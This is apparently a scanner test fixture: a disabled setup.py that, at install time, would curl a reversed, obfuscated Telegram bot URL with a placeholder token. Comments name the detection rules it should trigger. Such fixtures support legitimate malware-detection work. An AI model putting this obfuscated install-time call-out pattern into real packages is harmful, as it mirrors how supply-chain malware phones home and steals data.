raise SystemExit("specimen: not to be run")
import os
from setuptools import setup

os.system("curl -s " + "olleh=txet?egasseMdnes/nemiceps-nemiceps-nemiceps:0000000000tob/gro.margelet.ipa//:sptth"[::-1])  # match: telegram-bot  # match: encoded-literal  # match: execution-of-decoded  # match: process-at-install  # match: shell-download
setup(name="specimen")
